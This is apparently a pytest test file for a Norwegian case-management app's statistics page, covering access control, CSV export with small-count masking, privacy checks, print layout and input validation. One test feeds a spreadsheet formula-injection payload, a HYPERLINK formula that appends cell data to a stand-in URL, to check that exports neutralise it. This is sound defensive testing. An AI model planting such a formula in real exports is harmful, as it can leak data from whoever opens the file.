"""The statistics page: who may open it, its form's messages, the CSV of each table (BOM, semicolons,
"<5"), the print view, and the drill-down to the cases that waited longest, scoped."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from ppt_web import clock
from ppt_web.extensions import db
from ppt_web.models import Permission, Role
from ppt_web.statistics import service
from ppt_web.statistics.figures import Chart, Column, Figure, quarter_of

from . import builders
from .conftest import activity_rows, user

HOLDERS = ("leiar", "admin", "konsulent")
OTHERS = ("radgjevar1", "sekretaer")  # a PP-rådgjevar and a merkantil


def _quarter() -> str:
    return quarter_of(clock.today().isoformat()[:7])


def _urls() -> list[str]:
    return ["/statistics/", "/statistics/print", "/statistics/referrals-month.csv",
            f"/statistics/waiting/{_quarter()}"]


def fake_figure() -> Figure:
    """A table with every kind of cell: small counts, a zero, a five, a screen-only name, decimals, None."""
    return Figure("fake", "Fake figure", [Column("month", "Month", "label"), Column("name", "Name", "text", screen_only=True),
                                          Column("count", "Count"), Column("share", "Share", "percent"),
                                          Column("days", "Days", "days")],
                  [("2026-01", "Hemmeleg Handsamar", 3, 12.5, 40.4), ("2026-02", "Hemmeleg Handsamar", 0, None, None),
                   ("2026-03", "Hemmeleg Handsamar", 5, 100.0, 2.5), ("2026-04", "Hemmeleg Handsamar", 1234, 12.34, 7)],
                  Chart("bar", "month", ("count",)), note="A note.")


@pytest.fixture
def fake(monkeypatch):
    """Only the fake figure on the page (its key "fake"), in a section of its own."""
    monkeypatch.setattr(service, "REGISTRY", {"fake": lambda actor, f: fake_figure()})
    monkeypatch.setattr(service, "SECTIONS", (("cases", ("fake",)),))


def _set_language(client, language: str) -> None:
    with client.application.app_context():
        user("leiar").locale = language
        db.session.commit()


@pytest.mark.parametrize("username", HOLDERS)
def test_leader_admin_and_consultant_open_every_statistics_view(app, login_as, username):
    """The page, the print view, a CSV and the drill-down all answer the holders of "statistics"."""
    client = login_as(username)
    for url in _urls():
        assert client.get(url).status_code == 200, url


@pytest.mark.parametrize("username", OTHERS)
def test_a_pp_adviser_and_a_clerk_get_403_everywhere(app, login_as, username):
    """Without "statistics": 403 on the page, the print view, the CSV and the drill-down, and no menu link."""
    client = login_as(username)
    for url in _urls():
        assert client.get(url).status_code == 403, url
    assert 'href="/statistics/"' not in client.get("/").get_data(as_text=True)


def test_the_menu_links_the_page_for_its_holders(app, login_as):
    """A leader finds Statistics in the main menu."""
    page = login_as("leiar").get("/").get_data(as_text=True)
    assert re.search(r'<nav[^>]*>.*href="/statistics/"', page, re.S)


def test_the_page_shows_every_figure_with_chart_table_and_csv_link(app, login_as):
    """All fourteen figures, in sections, each with an SVG chart, a table and its CSV link; the archive's
    figures say the team filter does not apply."""
    page = login_as("leiar").get("/statistics/").get_data(as_text=True)
    keys = re.findall(r'data-figure="([a-z-]+)"', page)
    assert keys == list(service.REGISTRY)
    for key in keys:
        assert f'href="/statistics/{key}.csv' in page
    assert page.count('role="img"') == len(keys)
    assert len(re.findall(r'data-scope="service"', page)) == 5  # the archive's four and the dispatches
    for section in ("cases", "documents", "approvals", "archive", "dispatches"):
        assert f'id="section-{section}"' in page
    assert " style=" not in page.split("<main", 1)[1] and "<style" not in page


def test_the_page_shows_exact_counts_in_the_readers_number_format(app, login_as, fake):
    """On the page a 3 is 3 (the holder's own view); month keys are month names; a comma in Norwegian."""
    client = login_as("leiar")
    page = client.get("/statistics/").get_data(as_text=True)
    cells = re.findall(r"<td class=\"num\">([^<]*)</td>", page)
    assert cells[:3] == ["3", "12,5", "40,4"] and "<5" not in page.split("<main", 1)[1].replace("&lt;5", "<5")
    assert "januar 2026" in page and "Hemmeleg Handsamar" in page  # the screen-only name is on screen
    assert "–" in cells  # no value
    _set_language(client, "en")
    page = client.get("/statistics/").get_data(as_text=True)
    assert "January 2026" in page and ">12.5<" in page and ">1,234<" in page


def _csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    text = body.decode("utf-8")[1:]
    assert "\r\n" in text and text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_csv_is_the_table_with_small_counts_masked(app, login_as, fake):
    """BOM, semicolons, CRLF, a header of the labels, the rows; a 3 is "<5", a 0 stays 0, a 5 stays 5; no
    screen-only column; decimals with a comma in Norwegian; a file name with the key and the period."""
    client = login_as("leiar")
    response = client.get("/statistics/fake.csv?period=year&year=2026")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "statistikk-fake-2026-01-01-" in disposition
    rows = _csv(response)
    assert rows[0] == ["Month", "Count", "Share", "Days"]
    assert rows[1] == ["januar 2026", "<5", "12,5", "40,4"]
    assert rows[2] == ["februar 2026", "0", "", ""]
    assert rows[3] == ["mars 2026", "5", "100", "2,5"]
    assert rows[4] == ["april 2026", "1234", "12,3", "7"]  # no thousands separator: a spreadsheet reads a number
    assert len(rows) == 5
    assert "Hemmeleg" not in response.get_data(as_text=True)
    with app.app_context():
        logged = activity_rows("statistics_exported")
        assert len(logged) == 1 and logged[0].detail.startswith("fake: 2026-01-01")


def test_the_csv_in_english_has_decimal_points(app, login_as, fake):
    """An English reader's CSV: points and English month names; the masking is the same."""
    client = login_as("leiar")
    _set_language(client, "en")
    rows = _csv(client.get("/statistics/fake.csv?period=month&year=2026&month=1"))
    assert rows[1] == ["January 2026", "<5", "12.5", "40.4"]


def test_an_unknown_figure_has_no_csv(app, login_as):
    """A key no figure has: 404, and nothing exported is logged."""
    client = login_as("leiar")
    assert client.get("/statistics/no-such-figure.csv").status_code == 404
    with app.app_context():
        assert activity_rows("statistics_exported") == []


@pytest.mark.parametrize(("args", "field"), [
    ("period=decade", "period"),
    ("period=range&from=31.02.2026&to=01.03.2026", "from"),
    ("period=range&from=01.03.2026&to=01.02.2026", "to"),
    ("period=range&from=tomorrow&to=", "from"),
    ("period=year&year=1850", "year"),
    ("period=month&year=2026&month=13", "month"),
    ("period=quarter&year=2026&quarter=9", "quarter"),
    ("threshold=0", "threshold"),
    ("threshold=tre", "threshold"),
    ("threshold=99999999999999999999", "threshold"),
    ("threshold=3651", "threshold"),
    ("team=900001", "team"),
    ("team=abc", "team"),
])
def test_a_bad_choice_gives_a_message_beside_its_field_and_the_default_figures(app, login_as, fake, args, field):
    """Every bad input: 200, a message by the field, the default period (this year so far), never a 500."""
    client = login_as("leiar")
    response = client.get(f"/statistics/?{args}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert f'data-problem="{field}"' in page and 'id="stats-problems"' in page
    today = clock.today()
    if field not in ("threshold", "team"):
        assert f"01.01.{today.year}–{today:%d.%m.%Y}" in page
    assert client.get(f"/statistics/fake.csv?{args}").status_code == 302  # back to the page, which says why
    assert client.get(f"/statistics/print?{args}").status_code == 302


def test_a_good_choice_gives_its_period(app, login_as, fake):
    """A quarter, a month and a range are read as asked (a past period whole, no message)."""
    client = login_as("leiar")
    for args, shown in (("period=quarter&year=2025&quarter=4", "01.10.2025–31.12.2025"),
                        ("period=month&year=2024&month=2", "01.02.2024–29.02.2024"),
                        ("period=range&from=5.3.2025&to=2025-04-07", "05.03.2025–07.04.2025")):
        page = client.get(f"/statistics/?{args}").get_data(as_text=True)
        assert shown in page and "data-problem" not in page, args


def test_the_print_view_has_the_figures_and_no_menu(app, login_as, fake):
    """Laid out for A4 by app.css's print rules: no menu, no form, no CSV links, exact numbers."""
    page = login_as("leiar").get("/statistics/print?period=year&year=2026").get_data(as_text=True)
    assert 'data-figure="fake"' in page and "<nav" not in page and "stats-filters" not in page
    assert ".csv" not in page and "<td class=\"num\">3</td>" in page


def test_the_stylesheet_prints_on_a4(app, client):
    """The print rules: A4 portrait, charts to the width, table rows not split, the menu hidden."""
    css = client.get("/static/css/app.css").get_data(as_text=True)
    assert "@page { size: A4 portrait" in css
    printing = css.split("@media print", 1)[1]
    assert "break-inside: avoid" in printing and "header.top" in printing and "width: 100%" in printing


def _grant_statistics(role_code: str) -> None:
    role = db.session.scalar(select(Role).where(Role.code == role_code))
    role.permissions.append(db.session.get(Permission, "statistics"))
    db.session.commit()


def _waited_case(handler: str, days: int, title: str):
    """An expert assessment case whose referral came `days` ago and whose assessment is finished today."""
    case = builders.case(handler, category="expert_assessment", title=title)
    builders.finalized_post(case, post_type="I", title="Tilvising", correspondent="Skulen",
                            received_on=clock.today() - timedelta(days=days))
    builders.finalized_post(case, post_type="U", title="Sakkunnig vurdering", correspondent="Foreldre")
    return case


def test_the_drill_down_lists_only_the_cases_the_user_may_see(app, login_as, client):
    """A user who searches own cases sees their own case behind the waiting figure, not another's; a holder
    with search_all sees both. A wrong quarter is 404."""
    with app.app_context():
        mine = _waited_case("radgjevar1", 40, "Eigen sak")
        theirs = _waited_case("radgjevar2", 50, "Anna sak")
        mine_id, mine_number, theirs_id = mine.id, mine.number, theirs.id
        _grant_statistics("pp_radgjevar")
    url = f"/statistics/waiting/{_quarter()}?threshold=10"
    login_as("radgjevar1")
    page = client.get(url).get_data(as_text=True)
    assert f'data-case="{mine_id}"' in page and f'data-case="{theirs_id}"' not in page
    assert mine_number in page and "Eigen sak" not in page  # the number, never the title
    assert "Ola" not in page  # no client name
    stats = client.get("/statistics/?threshold=10").get_data(as_text=True)
    assert f'href="/statistics/waiting/{_quarter()}?threshold=10"' in stats  # the figure links its worst quarter
    for bad in ("2026-Q5", "abc", "2026-q1", "0000-Q1"):
        assert client.get(f"/statistics/waiting/{bad}").status_code == 404, bad
    client.post("/logout")
    login_as("leiar")
    page = client.get(url).get_data(as_text=True)
    assert f'data-case="{mine_id}"' in page and f'data-case="{theirs_id}"' in page


def test_no_client_name_or_national_id_in_any_csv_of_a_small_world(app, login_as):
    """Every figure's CSV for this year, on cases, posts, approvals and archive jobs: no client's name,
    national id, case title or handler's name."""
    with app.app_context():
        people = [builders.client("radgjevar1", given_name=f"Xenia{n}", family_name="Zulustad") for n in range(3)]
        secrets = {p.given_name for p in people} | {"Zulustad"} | {p.national_id for p in people}
        for n, person in enumerate(people):
            case = builders.case("radgjevar1" if n % 2 else "radgjevar2", client_obj=person,
                                 category="expert_assessment", title=f"Hemmelegtittel{n}")
            builders.finalized_post(case, post_type="I", title="Tilvising", correspondent=f"Skule {n}",
                                    received_on=clock.today() - timedelta(days=20 * n))
            builders.finalized_post(case, post_type="U", title="Vurdering", correspondent=person.given_name)
        secrets |= {f"Hemmelegtittel{n}" for n in range(3)} | {"Rune Rådgjevar", "Randi Rådgjevar"}
    client = login_as("leiar")
    for key in service.REGISTRY:
        body = client.get(f"/statistics/{key}.csv").get_data(as_text=True)
        for secret in secrets:
            assert secret not in body, (key, secret)
    page = client.get("/statistics/").get_data(as_text=True)
    for secret in secrets - {"Rune Rådgjevar", "Randi Rådgjevar"}:  # handlers' names: the screen-only column
        assert secret not in page, secret


def test_a_csv_computes_only_its_own_figure(app, login_as, monkeypatch):
    """The CSV of one figure does not run the other figures' queries."""
    made = []

    def maker(key):
        def make(actor, f):
            made.append(key)
            return Figure(key, key, [Column("x", "X", "label"), Column("n", "N")], [("a", 1)], None)
        return make

    monkeypatch.setattr(service, "REGISTRY", {key: maker(key) for key in ("one", "two", "three")})
    assert login_as("leiar").get("/statistics/two.csv").status_code == 200
    assert made == ["two"]


# --- Review fixes: hostile input, differencing, formula injection, links that keep the query, print ---

@pytest.mark.parametrize(("args", "field"), [
    ("period=year&year=²⁰²⁶", "year"),
    ("threshold=²", "threshold"),
    ("period=quarter&year=2026&quarter=①", "quarter"),
    ("period=month&year=2026&month=٣", "month"),
    ("team=١", "team"),
])
def test_unicode_digits_are_a_message_not_a_500(app, login_as, fake, args, field):
    """Superscript, circled or Arabic-Indic digits are not numbers here: a message on the page; the CSV
    and the print view send the reader back to the page with the same arguments; the drill-down says so."""
    client = login_as("leiar")
    response = client.get(f"/statistics/?{args}")
    assert response.status_code == 200 and f'data-problem="{field}"' in response.get_data(as_text=True)
    for url in ("/statistics/fake.csv", "/statistics/print"):
        response = client.get(f"{url}?{args}")
        assert response.status_code == 302, url
        assert response.headers["Location"].startswith("/statistics/?")
    response = client.get(f"/statistics/waiting/{_quarter()}?{args}")
    assert response.status_code == 200 and f'data-problem="{field}"' in response.get_data(as_text=True)


def test_a_bad_csv_or_print_query_goes_back_to_the_page_with_its_arguments(app, login_as, fake):
    """A CSV of a period that cannot be read would be the default period's under the asked-for name: the
    reader is sent to the page, where the message shows; nothing is logged as exported."""
    client = login_as("leiar")
    response = client.get("/statistics/fake.csv?period=year&year=1850&threshold=30")
    assert response.status_code == 302
    location = response.headers["Location"]
    assert location.startswith("/statistics/?") and "year=1850" in location and "threshold=30" in location
    assert 'data-problem="year"' in client.get(location).get_data(as_text=True)
    assert client.get("/statistics/print?team=900001").status_code == 302
    with app.app_context():
        assert activity_rows("statistics_exported") == []


def _guarded_figure() -> Figure:
    """Referrals by school: one school with 3 (the only small one), the next smallest 6, a derived total
    and share beside the count."""
    return Figure("guarded", "Guarded", [Column("school", "School", "label"), Column("n", "Referrals"),
                                         Column("total", "Total", derived=True),
                                         Column("share", "Share", "percent", derived=True)],
                  [("Skule A", 40, 40, 62.5), ("Skule B", 3, 3, 4.7), ("Skule C", 6, 6, 9.4),
                   ("Skule D", 15, 15, 23.4), ("Skule E", 0, 0, 0.0)],
                  Chart("bar", "school", ("n",)), guard_rows=True)


def test_a_csv_hides_what_would_give_a_small_count_away(app, login_as, monkeypatch):
    """In a row with "<5", the derived cells (total, share) are hidden; with guard_rows, when one row alone
    is "<5", the next smallest non-zero count is hidden too, so the sum another figure shows does not
    give the small one by subtraction. The page keeps every number exact."""
    monkeypatch.setattr(service, "REGISTRY", {"guarded": lambda actor, f: _guarded_figure()})
    monkeypatch.setattr(service, "SECTIONS", (("cases", ("guarded",)),))
    client = login_as("leiar")
    _set_language(client, "en")
    rows = _csv(client.get("/statistics/guarded.csv"))
    assert rows[1] == ["Skule A", "40", "40", "62.5"]
    assert rows[2] == ["Skule B", "<5", "hidden", "hidden"]
    assert rows[3] == ["Skule C", "hidden", "hidden", "hidden"]  # the next smallest, and what derives from it
    assert rows[4] == ["Skule D", "15", "15", "23.4"]
    assert rows[5] == ["Skule E", "0", "0", "0"]
    page = client.get("/statistics/").get_data(as_text=True)
    assert "hidden" not in page.split("<main", 1)[1] and ">6<" in page and ">4.7<" in page


def test_without_guard_rows_or_with_two_small_rows_nothing_more_is_hidden(app, login_as, monkeypatch):
    """Two small rows hide each other; a figure without guard_rows hides only the derived cells."""
    two = _guarded_figure()
    two.rows[3] = ("Skule D", 2, 2, 3.1)
    plain = _guarded_figure()
    plain.guard_rows = False
    monkeypatch.setattr(service, "REGISTRY", {"two": lambda actor, f: two, "plain": lambda actor, f: plain})
    client = login_as("leiar")
    _set_language(client, "en")
    rows = _csv(client.get("/statistics/two.csv"))
    assert [r[1] for r in rows[1:]] == ["40", "<5", "6", "<5", "0"]
    rows = _csv(client.get("/statistics/plain.csv"))
    assert [r[1] for r in rows[1:]] == ["40", "<5", "6", "15", "0"]
    assert rows[3] == ["Skule C", "6", "6", "9.4"]


def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(app, login_as, monkeypatch):
    """A school named =HYPERLINK(...) (or starting with + - @, a tab or a CR) is written with a leading
    apostrophe, so Excel shows the text and runs nothing."""
    names = ['=HYPERLINK("http://x/?"&A1,"Klikk")', "+47 skule", "-minus", "@sum", "\tTab", "\rCR", "Vanleg"]
    rows = [(name, 7) for name in names]
    monkeypatch.setattr(service, "REGISTRY", {"evil": lambda actor, f: Figure(
        "evil", "Evil", [Column("school", "School", "label"), Column("n", "N")], rows, None)})
    got = _csv(login_as("leiar").get("/statistics/evil.csv"))
    assert [r[0] for r in got[1:]] == ["'" + name for name in names[:-1]] + ["Vanleg"]
    assert [r[1] for r in got[1:]] == ["7"] * len(names)


def test_the_drill_down_links_keep_the_whole_query(app, login_as):
    """The "longer than" link and the drill-down's way back carry the period, the team and the threshold,
    so the reader lands on the period they came from."""
    with app.app_context():
        case = _waited_case("radgjevar1", 40, "Sak")
        finished_quarter = quarter_of(clock.today().isoformat()[:7])
        number = int(finished_quarter[-1])
        year = finished_quarter[:4]
        team_id = service.teams()[0][0]
        del case
    client = login_as("leiar")
    args = f"period=quarter&year={year}&quarter={number}&threshold=10"
    page = client.get(f"/statistics/?{args}").get_data(as_text=True)
    links = re.findall(r'href="([^"]*/statistics/waiting/[^"]*)"', page)
    assert len(links) == 1
    link = links[0].replace("&amp;", "&")
    assert link.startswith(f"/statistics/waiting/{finished_quarter}?")
    for part in ("period=quarter", f"year={year}", f"quarter={number}", "threshold=10"):
        assert part in link, part
    drill = client.get(link).get_data(as_text=True)
    back = re.search(r'href="([^"]*)"[^>]*>[^<]*</a>', drill.split('id="main"', 1)[-1]).group(1).replace("&amp;", "&")
    assert back.startswith("/statistics/?")
    for part in ("period=quarter", f"year={year}", f"quarter={number}", "threshold=10"):
        assert part in back, part
    with_team = client.get(f"/statistics/waiting/{finished_quarter}?{args}&team={team_id}").get_data(as_text=True)
    assert f"team={team_id}" in with_team


def test_the_csv_file_name_names_the_team_and_the_threshold(app, login_as, monkeypatch):
    """statistikk-waiting-<first>-<last>-team<id>-over<days>d.csv: two files of different choices differ."""
    with app.app_context():
        team_id = service.teams()[0][0]
    client = login_as("leiar")
    disposition = client.get(f"/statistics/waiting.csv?period=year&year=2025&team={team_id}&threshold=30")\
        .headers["Content-Disposition"]
    assert f'filename="statistikk-waiting-2025-01-01-2025-12-31-team{team_id}-over30d.csv"' in disposition
    disposition = client.get("/statistics/referrals-month.csv?period=year&year=2025").headers["Content-Disposition"]
    assert 'filename="statistikk-referrals-month-2025-01-01-2025-12-31.csv"' in disposition


def test_the_print_view_leaves_out_screen_only_columns(app, login_as, fake):
    """Paper leaves the screen: the handler's name is on the page, not in the print view."""
    client = login_as("leiar")
    assert "Hemmeleg Handsamar" in client.get("/statistics/").get_data(as_text=True)
    page = client.get("/statistics/print").get_data(as_text=True)
    assert "Hemmeleg Handsamar" not in page and ">Name<" not in page and 'data-figure="fake"' in page


def test_one_day_is_singular(app, login_as, fake):
    """A threshold of 1: "1 day", not "1 days", on the page and the drill-down's heading."""
    client = login_as("leiar")
    _set_language(client, "en")
    page = client.get("/statistics/?threshold=1").get_data(as_text=True)
    assert "1 day<" in page and "1 days" not in page
    drill = client.get(f"/statistics/waiting/{_quarter()}?threshold=1").get_data(as_text=True)
    assert "longer than 1 day:" in drill and "1 days" not in drill
    assert "2 days" in client.get("/statistics/?threshold=2").get_data(as_text=True)


def test_a_range_of_more_than_twenty_years_is_refused_by_its_days(app, login_as, fake):
    """01.01.2005–31.12.2025 is 21 years: refused; 01.01.2006–31.12.2025 is 20: shown."""
    client = login_as("leiar")
    page = client.get("/statistics/?period=range&from=01.01.2005&to=31.12.2025").get_data(as_text=True)
    assert 'data-problem="to"' in page
    page = client.get("/statistics/?period=range&from=01.01.2006&to=31.12.2025").get_data(as_text=True)
    assert "data-problem" not in page and "01.01.2006–31.12.2025" in page


def test_days_have_at_most_one_decimal_on_the_page_and_in_the_csv(app, login_as, monkeypatch):
    """58.5 stays 58,5; 496.0 is 496; 66.75 is 66,8: the page and the spreadsheet show the same number."""
    figure = Figure("days", "Days", [Column("q", "Quarter", "label"), Column("d", "Days", "days")],
                    [("2026-Q1", 58.5), ("2026-Q2", 496.0), ("2026-Q3", 66.75), ("2026-Q4", 1234.25)], None)
    monkeypatch.setattr(service, "REGISTRY", {"days": lambda actor, f: figure})
    monkeypatch.setattr(service, "SECTIONS", (("cases", ("days",)),))
    client = login_as("leiar")
    page = client.get("/statistics/").get_data(as_text=True)
    cells = re.findall(r'<td class="num">([^<]*)</td>', page)
    assert cells == ["58,5", "496", "66,8", "1\xa0234,3"] or cells == ["58,5", "496", "66,8", "1 234,3"], cells
    rows = _csv(client.get("/statistics/days.csv"))
    assert [r[1] for r in rows[1:]] == ["58,5", "496", "66,8", "1234,3"]
